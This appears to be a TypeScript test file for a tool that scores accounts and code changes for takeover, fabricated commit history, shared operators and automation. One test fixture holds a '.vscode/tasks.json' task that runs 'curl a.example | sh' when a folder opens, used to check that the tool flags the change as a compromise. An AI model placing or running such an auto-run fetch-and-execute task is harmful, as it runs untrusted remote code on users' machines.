import { alike } from "../../src/assessment/alike.ts";
import { assess } from "../../src/assessment/assess.ts";
import type { Assessment, Finding, LeadingLabel } from "../../src/assessment/assessment.ts";
import { leadingLabel } from "../../src/assessment/label.ts";
import { UNREAD } from "../../src/assessment/mitigate.ts";
import { stories } from "../../src/assessment/stories.ts";
import { inPart } from "../../src/assessment/unread-history.ts";
import { leadWords } from "../../src/assessment/words.ts";
import type { SectionTypes } from "../../src/dossier/facts.ts";
import { clear, clearBut, type Detection, type Evidence, unknown } from "../../src/signals/signal.ts";
import { changed, daysAgo } from "../signals/given.ts";
import { expect, test } from "../support/jest.ts";
import { dossierOf, ordinaryChange, veteran } from "./dossiers.ts";
import { bits, seen } from "./made-signals.ts";

const outcome = (
  more: Partial<Assessment["persona"]> = {},
  level: Assessment["change"]["level"] = "low",
): Pick<Assessment, "persona" | "change"> => ({
  persona: { ...assess(dossierOf({})).persona, ...more },
  change: { level, complete: true },
});
const shared = (because: string) => ({ mitigations: [{ id: "m6" as const, bits: 1, because }] });

test.each<readonly [string, ReturnType<typeof outcome>, readonly Finding[], LeadingLabel]>([
  ["nothing", outcome(), [], null],
  ["one bit", outcome(), [bits("identity", 1)], "shared_operator"],
  ["less than a bit", outcome(), [bits("identity", 0.999)], null],
  ["the larger share, whatever its name", outcome(), [bits("history", 2), bits("lifecycle", 3)], "takeover"],
  ["of equal shares the first by name", outcome(), [bits("lifecycle", 2), bits("history", 2)], "fabricated_history"],
  [
    "shares of one reading together",
    outcome(),
    [bits("identity", 1), bits("network", 1), bits("history", 1.5)],
    "shared_operator",
  ],
  ["a list of others speaks for nothing", outcome(), [bits("intel", 3), bits("identity", 1)], "shared_operator"],
  ["a signal of the queue", outcome(), [bits("lifecycle", 1, "queued")], "spam_automation"],
  ["a critical change of nobody notable", outcome({ band: "note" }, "critical"), [bits("identity", 3)], "compromise"],
  [
    "a critical change of somebody to look at",
    outcome({ band: "review" }, "critical"),
    [bits("identity", 3)],
    "shared_operator",
  ],
  ["a shared account", outcome(shared("many machines")), [bits("lifecycle", 3)], "shared_automation"],
  ["a shared account from what nobody saw", outcome(shared(UNREAD)), [bits("lifecycle", 3)], "takeover"],
])("leadingLabel: %s", (_what, given, findings, label) => {
  expect(leadingLabel(given, findings, new Set(["queued"]))).toBe(label);
});

const NOT_READ = "some of its own repositories could not be read whole by the API";

test.each<readonly [string, Parameters<typeof inPart>[0], Detection, Detection]>([
  ["clear in histories", { needs: ["history.dates"] }, clear, unknown(NOT_READ)],
  ["clear elsewhere", { needs: ["account.keys"] }, clear, clear],
  ["unknown in histories", { needs: ["history.dates"] }, unknown("too few"), unknown("too few")],
  [
    "clear where a history is one of two places",
    { needs: [], needsOneOf: ["history.dates"] },
    clear,
    clearBut(NOT_READ),
  ],
  ["clear with more unseen", { needs: [], needsOneOf: ["history.dates"] }, clearBut("more"), clearBut("more")],
  ["found in histories", { needs: ["history.dates"] }, seen(), { ...seen(), unseen: NOT_READ } as Detection],
])("inPart: %s", (_what, meta, detection, expected) => {
  expect(inPart(meta, detection)).toEqual(expected);
});

type Identity = SectionTypes["history.pictures"]["identities"][number];
const machine = (firstDaysAgo: number, lastDaysAgo: number, more: Partial<Identity> = {}): Identity => ({
  ...{ kind: "machine", label: "machine", commitCount: 10 },
  ...{ firstAt: daysAgo(firstDaysAgo), lastAt: daysAgo(lastDaysAgo), ...more },
});
const three = [machine(400, 10), machine(300, 10), machine(200, 10)];

test.each<readonly [string, readonly Identity[], number, boolean]>([
  ["four at a time", [...three, machine(100, 10)], 2, true],
  ["three at a time", three, 2, false],
  ["one key", [...three, machine(100, 10)], 1, false],
  ["the fourth of nine commits", [...three, machine(100, 10, { commitCount: 9 })], 2, false],
  ["the fourth is no machine", [...three, machine(100, 10, { kind: "address" })], 2, false],
  ["the fourth begins when the first ends", [machine(400, 100), ...three.slice(1), machine(100, 10)], 2, false],
  ["the fourth begins with the third", [...three, machine(200, 10)], 2, true],
  ["the fourth begins and ends before them", [...three, machine(900, 800)], 2, false],
])("stories: an account that is shared, %s", (_what, identities, keyCount, granted) => {
  const dossier = dossierOf({
    "account.keys": { keys: Array.from({ length: keyCount }, () => ({ kind: "gpg", createdAt: daysAgo(800) })) },
    "history.pictures": { hours: [], weeks: [], identities },
  });
  const told = stories(dossier, [bits("identity", 2, "id-tz-fast-flip"), bits("history", 1)]);
  expect(told.granted).toEqual(granted ? [expect.objectContaining({ id: "m6", bits: 2 })] : []);
});

test.each<readonly [string, readonly Finding[], Partial<SectionTypes>, number | null]>([
  [
    "half of the strongest stays",
    [bits("history", 2, "hist-backdated-batch-push"), bits("history", 1, "hist-commits-predate-account")],
    {},
    1.7,
  ],
  [
    "something else in the history counts",
    [bits("history", 2, "hist-backdated-batch-push"), bits("history", 1, "hist-mirror-credit")],
    {},
    null,
  ],
  [
    "something outside the history counts",
    [bits("history", 2, "hist-backdated-batch-push"), bits("identity", 1)],
    {},
    1,
  ],
  [
    "no copy was found elsewhere",
    [bits("history", 2, "hist-backdated-batch-push")],
    { "history.scan": { repositories: [], copies: [], requests: 1, points: 1, seconds: 1 } },
    1,
  ],
])("stories: work that moved here, %s", (_what, findings, sections, off) => {
  expect(stories(dossierOf(sections), findings).granted).toEqual(
    off === null ? [] : [expect.objectContaining({ id: "m5", bits: off })],
  );
});

const about = (label: Assessment["label"], band: Assessment["persona"]["band"]): string | null => {
  const plain = assess(dossierOf({ ...ordinaryChange, ...veteran }));
  return leadWords({ label, persona: { ...plain.persona, band } });
};

test("leading explanation: told from note on, and of nothing that reads as nothing notable", () => {
  for (const label of ["fabricated_history", "takeover", "shared_operator", "spam_automation"] as const) {
    expect([about(label, "none"), about(label, "insufficient_evidence")]).toEqual([null, null]);
    expect(about(label, "note")).toMatch(/^Unless one of the innocent readings holds, what was found would fit /);
  }
  expect(about(null, "high")).toBe(null);
});

test("leading explanation: a critical change of an honest account is told as one, and a shared account as shared", () => {
  const trap = changed({
    ".vscode/tasks.json": ['{"tasks":[{"command":"curl a.example | sh","runOptions":{"runOn":"folderOpen"}}]}'],
  });
  expect(leadWords(assess(dossierOf({ ...ordinaryChange, ...veteran, "change.files": trap })))).toBe(
    "Nothing here speaks against the author: think of a machine or an account of its author that somebody else got hold of.",
  );
  // What was found of an account is not denied because its change is dangerous.
  expect(about("compromise", "note")).toMatch(/^Whatever else was found, think of .* first\.$/);
  expect(about("shared_automation", "none")).toBe(
    "What was found fits an account that several people or programs use.",
  );
});

test("alike: one sentence about several commits is said once; places and facts without a commit stand by themselves", () => {
  const fact = (more: Partial<Evidence>): Evidence => ({ fact: "Work.", tier: "SM_attested", ...more });
  const at = "2026-01-02T00:00:00.000Z";
  const told = alike([
    fact({ commit: "a1", at }),
    fact({ commit: "b2" }),
    fact({ commit: "c3", tier: "SM" }),
    fact({ commit: "d4", place: { path: "a", line: 1 } }),
    fact({ commit: "e5", place: { path: "a", line: 1 } }),
    fact({}),
    fact({}),
  ]);
  expect(told.map(({ commits }) => commits.map(({ oid }) => oid))).toEqual([
    ["a1", "b2"],
    ["c3"],
    ["d4"],
    ["e5"],
    [],
    [],
  ]);
  expect(told[0]?.commits[0]).toEqual({ oid: "a1", at });
});
